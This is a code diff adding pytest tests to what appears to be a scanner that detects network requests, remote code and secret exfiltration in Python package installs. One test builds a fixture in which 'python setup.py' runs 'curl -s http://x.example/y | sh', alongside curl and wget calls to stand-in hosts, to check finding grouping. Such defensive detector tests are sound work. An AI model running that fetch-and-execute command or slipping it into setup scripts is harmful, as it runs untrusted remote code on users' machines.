@@ -273,3 +273,40 @@ def test_what_the_trace_saw_of_what_was_sent_is_not_told_again() -> None:
     assert sorted(rules) == ["network.attempt", "secret.sent"]
     rules = [rule for _, rule, _ in found(report_of((at, elsewhere), (at, sent)))]
     assert "secret.read" in rules
+
+
+@pytest.mark.parametrize(
+    ("kept", "subject", "sent", "is_told"),
+    [
+        (Kept.EXECUTED, "x = 1", NOTHING, False),
+        # What was sent on the way counts beside what came back.
+        (Kept.EXECUTED, "x = 1", Payload(9, "ab", "x"), True),
+        # Data that is only kept is less than that the package asked for it.
+        (Kept.FILE, "/home/dev/.cache/x/list.json", NOTHING, True),
+    ],
+)
+def test_what_came_of_a_request_is_told_in_its_place(
+    kept: Kept, subject: str, sent: Payload, is_told: bool
+) -> None:
+    remote = RemoteCode(URL, kept, subject, "/x.py:3", ACTOR)
+    elsewhere = (a_phase(PhaseName.IMPORT, "as windows"), request(body=sent))
+    report = report_of(request(body=sent), remote, elsewhere)
+    rules = [rule for _, rule, _ in found(report)]
+    assert rules.count(Rule.NETWORK_ATTEMPT) == (2 if is_told else 0)
+    assert rules.count(Rule.CODE_REMOTE) == 1 and len(report.lists["requests"]) == 2
+
+
+def test_what_a_shell_is_told_to_start_is_one_act_with_it() -> None:
+    line = "curl -s http://x.example/y | sh"
+    shell = Exec("/usr/bin/dash", ("sh", "-c", line), None, Actor(7, "python setup.py", "/s.py:7"))
+    above = Actor(8, f"sh -c {line}")
+    curl = Exec("/usr/bin/curl", ("curl", "-s", "http://x.example/y"), None, above)
+    # Of other words than the shell was given.
+    wget = Exec("/usr/bin/wget", ("wget", "http://z.example/"), None, above)
+    same = Exec("/usr/bin/curl", ("curl", "-s", "http://x.example/y"), None, Actor(9, "./x"))
+    groups = report_of(shell, curl, wget, same).groups
+    assert [(group.finding.place, len(group.titles)) for group in groups] == [
+        ("/s.py:7", 2),
+        (None, 1),
+        (None, 1),
+    ]
